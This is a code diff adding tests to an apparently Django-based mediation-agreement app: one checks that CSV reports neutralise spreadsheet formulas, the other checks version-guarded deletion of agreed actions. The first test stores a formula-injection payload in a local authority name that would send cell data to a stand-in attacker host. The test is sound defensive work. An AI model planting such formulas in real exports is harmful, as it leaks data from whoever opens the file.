@@ -4,6 +4,7 @@ and forged or foreign ids are refused without a save."""
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 from typing import Any
@@ -312,3 +313,39 @@ def test_a_report_sent_twice_alerts_once(world: World) -> None:
     assert action.reports.count() == 2
     assert FamilyRequest.objects.filter(child=agreement.case.child).count() == 2
     assert Message.objects.count() > messages_sent
+
+
+def test_report_csv_writes_a_formula_in_a_name_as_text(world: World) -> None:
+    la = world.case.child.local_authority
+    la.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    la.save()
+    with time_machine.travel(TODAY, tick=False):
+        _in_force(world)
+        response = _client(world, "case_manager").get(
+            reverse("agreements:report"),
+            {**_date("start", date(2026, 11, 1)), **_date("end", TODAY), "format": "csv"},
+        )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert ["'" + la.name] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
+
+
+def test_removing_an_action_without_a_version_is_refused(world: World) -> None:
+    with time_machine.travel(TODAY, tick=False):
+        mediator = world.users["mediator"]
+        agreement = services.agreement_create(
+            actor=mediator, case=world.case, made_on=AGREED, la_party=True, health_party=True
+        )
+        action = services.action_add(
+            actor=mediator, agreement=agreement, expected_version=agreement.version,
+            what="Name Riverside School in section I", who="Northwick SEND team",
+            measure="The amended plan names the school", kind="amend_school", timing="statutory",
+            agreed_due=None, plan_section="I",
+        )  # fmt: skip
+        url = reverse("agreements:action-remove", args=[agreement.pk, action.pk])
+        client = _client(world, "mediator")
+        response = client.post(url, {}, follow=True)
+        assert "Someone else changed this case" in response.content.decode()
+        assert AgreedAction.objects.filter(pk=action.pk).exists()
+        agreement.refresh_from_db()
+        client.post(url, {"version": agreement.version})
+        assert not AgreedAction.objects.filter(pk=action.pk).exists()
